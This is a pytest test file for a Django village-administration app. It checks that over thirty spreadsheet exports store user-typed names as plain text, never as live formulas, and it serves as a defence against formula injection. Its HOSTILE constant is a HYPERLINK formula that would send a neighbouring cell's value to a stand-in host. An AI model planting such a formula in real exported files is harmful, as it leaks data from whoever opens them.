"""No export writes a formula (issue 16): a resident, official, school, posyandu, child or
programme named `=HYPERLINK("http://x?leak="&C5,"a")` arrives in every spreadsheet as text.

Before, names starting with "=" became live formulas in the attendance recap, the
follow-up list and both health reports: opening the file sent the cell next to it to
whatever address the name held. Every export goes through `balai.core.xlsx`; each case
below fills the data one export shows with that name and opens the file with openpyxl.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from tests.export_checks import XLSX_EXPORTS

HOSTILE = '=HYPERLINK("http://x?leak="&C5,"a")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- The list is complete -------------------------------------------------------------------


def _patterns(resolver: URLResolver, prefix: str = "", namespace: str = "") -> list[tuple[str, str]]:
    found = []
    for p in resolver.url_patterns:
        if isinstance(p, URLResolver):
            ns = f"{namespace}:{p.namespace}" if namespace and p.namespace else (p.namespace or namespace)
            found += _patterns(p, prefix + str(p.pattern), ns)
        elif isinstance(p, URLPattern) and p.name:
            found.append((f"{namespace}:{p.name}" if namespace else p.name, prefix + str(p.pattern)))
    return found


def test_every_url_that_looks_like_a_spreadsheet_export_is_listed():
    patterns = _patterns(get_resolver())
    looks = {name for name, route in patterns if re.search(r"xlsx/?\$?$", route) or name.endswith("xlsx")}
    names = {name for name, _route in patterns}

    assert not looks - set(XLSX_EXPORTS), (
        f"add to tests/export_checks.py: {sorted(looks - set(XLSX_EXPORTS))}"
    )
    assert not set(XLSX_EXPORTS) - names, f"stale entries: {sorted(set(XLSX_EXPORTS) - names)}"


# --- Each export, with hostile names ---------------------------------------------------------


@pytest.fixture
def world(village_a, operator_a, kades_a, kader_a):
    from balai.people.tests.factories import DusunFactory, FamilyFactory, ResidentFactory, RtFactory

    dusun = DusunFactory(village=village_a, name="Krajan")
    rt = RtFactory(village=village_a, dusun=dusun)
    family = FamilyFactory(village=village_a, rt=rt, address=HOSTILE)
    head = ResidentFactory(
        village=village_a, family=family, rt=rt, name=HOSTILE, family_relation=1, birth_place=HOSTILE
    )
    family.head = head
    family.save(update_fields=["head"])
    return {
        "village": village_a,
        "operator": operator_a,
        "kades": kades_a,
        "kader": kader_a,
        "rt": rt,
        "family": family,
        "resident": head,
    }


def _residents(w: dict[str, Any]) -> tuple[Any, str]:
    return w["operator"], reverse("people:export_xlsx")


def _outgoing(w: dict[str, Any]) -> tuple[Any, str]:
    from balai.letters.tests.conftest import issue_domisili
    from balai.staff.models import Official

    Official.objects.create(
        village=w["village"],
        user=w["kades"],
        name=HOSTILE,
        position="Kepala Desa",
        signs_letters=True,
        signs_as=Official.SignsAs.OWN,
    )
    letter = issue_domisili(w["operator"], w["kades"], w["resident"])
    return w["operator"], reverse("letters:register_xlsx") + f"?tahun={letter.issued_on.year}"


def _incoming(w: dict[str, Any]) -> tuple[Any, str]:
    from balai.letters.models import IncomingLetter

    today = timezone.localdate()
    IncomingLetter.objects.create(
        village=w["village"],
        year=today.year,
        agenda_number=1,
        received_on=today,
        sender=HOSTILE,
        letter_number=HOSTILE,
        letter_date=today,
        subject=HOSTILE,
        summary=HOSTILE,
        note=HOSTILE,
        recorded_by=w["operator"],
    )
    return w["operator"], reverse("letters:incoming_xlsx") + f"?tahun={today.year}&q=%3DHYPERLINK"


def _follow_up(w: dict[str, Any]) -> tuple[Any, str]:
    from balai.education.models import Enrolment, School
    from balai.people.tests.factories import ResidentFactory

    today = timezone.localdate()
    child = ResidentFactory(
        village=w["village"],
        family=w["family"],
        rt=w["rt"],
        name=HOSTILE + " ANAK",
        birth_date=today.replace(year=today.year - 13) - dt.timedelta(days=10),
        family_relation=4,
        marital_status=1,
        education_kk=2,
        education_current=5,
    )
    school = School.objects.create(
        village=w["village"], name=HOSTILE, npsn="20312345", level="smp", status="negeri"
    )
    year = today.year - 1 if today.month < 7 else today.year
    Enrolment.objects.create(
        village=w["village"],
        resident=child,
        school=school,
        level="smp",
        school_year=year - 1,
        grade=7,
        enrolled_year=year - 1,
        status=Enrolment.Status.DROPPED,
        note=HOSTILE,
    )
    return w["operator"], reverse("education:follow_up_xlsx")


def _measured(w: dict[str, Any]) -> str:
    from balai.health.models import Posyandu, PosyanduSession
    from balai.health.services import measurement_record
    from balai.people.tests.factories import ResidentFactory

    today = timezone.localdate()
    posyandu = Posyandu.objects.create(village=w["village"], name=HOSTILE, dusun="Krajan")
    session = PosyanduSession.objects.create(village=w["village"], posyandu=posyandu, held_on=today)
    kid = ResidentFactory(
        village=w["village"],
        family=w["family"],
        rt=w["rt"],
        name=HOSTILE + " BALITA",
        mother_name=HOSTILE,
        birth_date=today - dt.timedelta(days=400),
        family_relation=4,
        current_address=HOSTILE,
    )
    measurement_record(
        actor=None,
        village=w["village"],
        child=kid,
        measured_on=today,
        weight_kg="9.5",
        lenhei_cm="75.0",
        position="l",
        session=session,
        confirm_implausible=True,
    )
    return f"?bulan={today:%Y-%m}"


def _monthly(w: dict[str, Any]) -> tuple[Any, str]:
    return w["operator"], reverse("health:report_monthly_xlsx") + _measured(w)


def _eppgbm(w: dict[str, Any]) -> tuple[Any, str]:
    return w["kader"], reverse("health:eppgbm_export") + _measured(w)


def _attendance(w: dict[str, Any]) -> tuple[Any, str]:
    from balai.staff.models import Official

    Official.objects.create(village=w["village"], name=HOSTILE, position=HOSTILE, order=1)
    return w["kades"], reverse("staff:attendance_recap_xlsx")


def _hostile_official(w: dict[str, Any]) -> Any:
    from balai.staff import careers
    from balai.staff.models import Official, Position

    official = Official.objects.create(village=w["village"], name=HOSTILE, position=HOSTILE, order=1)
    post = Position.objects.create(village=w["village"], kind="kasi", title=HOSTILE)
    careers.decree_record(
        actor=w["operator"],
        village=w["village"],
        official=official,
        data={"kind": "angkat", "number": HOSTILE, "date": "2025-01-06", "signer": HOSTILE, "position": post},
    )
    return official


def _buku_aparat(w: dict[str, Any]) -> tuple[Any, str]:
    _hostile_official(w)
    return w["kades"], reverse("staff:buku_aparat_xlsx")


def _buku_keputusan(w: dict[str, Any]) -> tuple[Any, str]:
    _hostile_official(w)
    return w["kades"], reverse("staff:buku_keputusan_xlsx") + "?tahun=2025"


def _staffing_regional(w: dict[str, Any]) -> tuple[Any, str]:
    from balai.accounts.models import Role, User

    official = _hostile_official(w)
    official.term_end = timezone.localdate() + dt.timedelta(days=30)
    official.save()
    viewer = User.objects.create_user("dispermades.export", role=Role.DISPERMADES)
    return viewer, reverse("staff:regional_xlsx")


def _programme(w: dict[str, Any]) -> Any:
    from balai.aid.tests.distribution_fixtures import enrol, make_programme

    programme = make_programme(w["village"], name=HOSTILE, description=HOSTILE)
    enrol(programme, w["family"], external_id=HOSTILE)
    return programme


def _recipients(w: dict[str, Any]) -> tuple[Any, str]:
    return w["operator"], reverse("aid:recipients_xlsx", args=[_programme(w).public_id])


def _cycle(w: dict[str, Any]) -> tuple[Any, str]:
    from balai.aid.services import distribution

    programme = _programme(w)
    cycle = distribution.cycle_create(
        actor=w["operator"],
        programme=programme,
        covers_start=programme.period_start,
        covers_end=programme.period_start.replace(month=3, day=31),
        planned_on=programme.period_start.replace(month=4, day=5),
        label=HOSTILE,
    )
    distribution.cycle_transition(actor=w["kades"], cycle=cycle, action="approve")
    return w["operator"], reverse("aid:cycle_xlsx", args=[cycle.public_id])


def _finance(w: dict[str, Any]) -> Any:
    import datetime as dt

    from balai.finance import services as fin
    from balai.finance.models import Account

    budget = fin.budget_create(actor=None, village=w["village"], year=2026)
    Account.objects.filter(year=2026, code="4.2.1.01").update(name=HOSTILE)
    line = fin.budget_line_create(
        actor=None,
        village=w["village"],
        budget=budget,
        account_code="4.2.1.01",
        funding_source="DDS",
        description=HOSTILE,
        unit_price=1_000_000,
    )
    fin.budget_set(
        actor=None, village=w["village"], budget=budget, perdes_number="1", perdes_date=dt.date(2026, 1, 2)
    )
    fin.receipt_record(
        actor=None,
        village=w["village"],
        budget=budget,
        line=line,
        number="1",
        date=dt.date(2026, 1, 5),
        amount=500_000,
        description=HOSTILE,
    )
    return budget


def _finance_book(w: dict[str, Any]) -> tuple[Any, str]:
    _finance(w)
    return w["operator"], reverse("finance:book_xlsx") + "?buku=bku&tahun=2026"


def _finance_lra(w: dict[str, Any]) -> tuple[Any, str]:
    _finance(w)
    return w["operator"], reverse("finance:lra_xlsx") + "?tahun=2026"


def _finance_regional(w: dict[str, Any]) -> tuple[Any, str]:
    from balai.accounts.models import Role, User

    _finance(w)
    type(w["village"]).objects.filter(pk=w["village"].pk).update(name=HOSTILE)
    viewer = User.objects.create_user(username="dinas_x", password="rahasia-demo-123", role=Role.DISPERMADES)
    return viewer, reverse("finance:regional_xlsx") + "?tahun=2026"


def _finance_advance(w: dict[str, Any]) -> Any:
    import datetime as dt

    from balai.finance import services as fin
    from balai.finance.services_payees import vendor_create

    budget = _finance(w)
    fin.budget_revision_start(actor=None, village=w["village"], budget=budget)
    act = fin.activity_create(actor=None, village=w["village"], budget=budget, code="02.03.01", name=HOSTILE)
    line = fin.budget_line_create(
        actor=None,
        village=w["village"],
        budget=budget,
        activity=act,
        account_code="5.2.1.07",
        funding_source="DDS",
        description=HOSTILE,
        unit_price=300_000,
    )
    fin.budget_revision_set(
        actor=None, village=w["village"], budget=budget, number="2", date=dt.date(2026, 2, 1)
    )
    # A payee is a resident or a registered vendor: the vendor's name carries the hostile text.
    vendor = vendor_create(actor=None, village=w["village"], name=HOSTILE[:160])
    spp = fin.payment_request_create(
        actor=None,
        village=w["village"],
        budget=budget,
        line=line,
        number=HOSTILE[:60],
        date=dt.date(2026, 2, 2),
        amount=200_000,
        description=HOSTILE,
        payee_vendor=vendor,
        kind="UM",
    )
    fin.payment_request_act(actor=None, village=w["village"], spp=spp, step="verify")
    fin.payment_request_act(actor=None, village=w["village"], spp=spp, step="approve")
    fin.payment_request_pay(actor=None, village=w["village"], spp=spp, paid_on=dt.date(2026, 2, 3))
    return act


def _finance_advances(w: dict[str, Any]) -> tuple[Any, str]:
    _finance_advance(w)
    return w["operator"], reverse("finance:advance_book_xlsx") + "?tahun=2026"


def _finance_activity(w: dict[str, Any]) -> tuple[Any, str]:
    act = _finance_advance(w)
    return w["operator"], reverse("finance:activity_book_xlsx", args=[act.public_id])


def _regency_figures(w: dict[str, Any]) -> tuple[Any, str]:
    from django.utils import timezone

    from balai.accounts.models import Role, User
    from balai.core.dates import Month
    from balai.regency.services import snapshot_take

    type(w["village"]).objects.filter(pk=w["village"].pk).update(name=HOSTILE)
    month = Month.of(timezone.localdate())
    snapshot_take(actor=None, month=month)
    viewer = User.objects.create_user(username="dinas_r", password="rahasia-demo-123", role=Role.DISPERMADES)
    return viewer, reverse("regency:figures_xlsx") + f"?bulan={month}"


def _regency_compare(w: dict[str, Any]) -> tuple[Any, str]:
    viewer, url = _regency_figures(w)
    return viewer, url.replace(reverse("regency:figures_xlsx"), reverse("regency:compare_xlsx")) + (
        "&indikator=residents"
    )


def _regency_board(name: str) -> Callable[[dict[str, Any]], tuple[Any, str]]:
    """The freshness board, its weekly digest and the rollout: every active village by name."""

    def case(w: dict[str, Any]) -> tuple[Any, str]:
        from balai.accounts.models import Role, User

        type(w["village"]).objects.filter(pk=w["village"].pk).update(name=HOSTILE)
        viewer = User.objects.create_user(
            username="dinas_b", password="rahasia-demo-123", role=Role.DISPERMADES
        )
        return viewer, reverse(name)

    return case


def _dashboard_village(w: dict[str, Any]) -> tuple[Any, str]:
    w["rt"].dusun.__class__.objects.filter(pk=w["rt"].dusun_id).update(name=HOSTILE)
    return w["kades"], reverse("dashboard:village_xlsx", args=[w["village"].code])


def _staff_performance(w: dict[str, Any]) -> tuple[Any, str]:
    _hostile_official(w)
    return w["kades"], reverse("dashboard:staff_performance_xlsx")


def _book(w: dict[str, Any]) -> tuple[Any, str]:
    return w["operator"], reverse("people:book_download") + "?buku=induk&format=xlsx"


CASES: dict[str, Callable[[dict[str, Any]], tuple[Any, str]]] = {
    "people:book_download": _book,
    "people:export_xlsx": _residents,
    "letters:register_xlsx": _outgoing,
    "letters:incoming_xlsx": _incoming,
    "education:follow_up_xlsx": _follow_up,
    "health:report_monthly_xlsx": _monthly,
    "health:eppgbm_export": _eppgbm,
    "staff:attendance_recap_xlsx": _attendance,
    "staff:buku_aparat_xlsx": _buku_aparat,
    "staff:buku_keputusan_xlsx": _buku_keputusan,
    "staff:regional_xlsx": _staffing_regional,
    "aid:recipients_xlsx": _recipients,
    "aid:cycle_xlsx": _cycle,
    "finance:book_xlsx": _finance_book,
    "finance:lra_xlsx": _finance_lra,
    "finance:regional_xlsx": _finance_regional,
    "finance:advance_book_xlsx": _finance_advances,
    "finance:activity_book_xlsx": _finance_activity,
    "regency:figures_xlsx": _regency_figures,
    "regency:compare_xlsx": _regency_compare,
    "regency:freshness_xlsx": _regency_board("regency:freshness_xlsx"),
    "regency:digest_xlsx": _regency_board("regency:digest_xlsx"),
    "regency:rollout_xlsx": _regency_board("regency:rollout_xlsx"),
    "dashboard:overview_xlsx": _regency_board("dashboard:overview_xlsx"),
    "people:regional_quality_xlsx": _regency_board("people:regional_quality_xlsx"),
    "health:regional_xlsx": _regency_board("health:regional_xlsx"),
    "aid:regional_xlsx": _regency_board("aid:regional_xlsx"),
    "education:regional_xlsx": _regency_board("education:regional_xlsx"),
    "economy:regional_xlsx": _regency_board("economy:regional_xlsx"),
    "dashboard:village_xlsx": _dashboard_village,
    "dashboard:staff_performance_xlsx": _staff_performance,
}


# Exports that hold no text anyone types: the rollout's village and district names come from
# the official region list shipped with Balai (balai/regions/data), not from a village's record.
NO_TYPED_TEXT = {"regency:rollout_xlsx"}


def test_every_listed_export_has_a_case():
    assert set(CASES) == set(XLSX_EXPORTS)


def _content(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


@pytest.mark.parametrize("name", list(XLSX_EXPORTS))
def test_no_export_writes_a_formula(client, world, name):
    # given
    user, url = CASES[name](world)
    client.force_login(user)

    # when
    response = client.get(url)

    # then: a spreadsheet, no formula in any sheet, the name as the text it is
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith(XLSX)
    data = _content(response)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for part in zf.namelist():
            if part.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>/]", zf.read(part)), f"{name}: a formula in {part}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}: formula at {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    if name not in NO_TYPED_TEXT:
        assert any(HOSTILE in text for text in texts), f"{name}: the hostile name is not in the file"
    # and the notes: when the data was read, with which filters
    notes = book.worksheets[-1]
    assert notes.title == "Keterangan"
    labels = [row[0] for row in notes.iter_rows(values_only=True)]
    assert "Data per" in labels
    assert "Filter" in labels
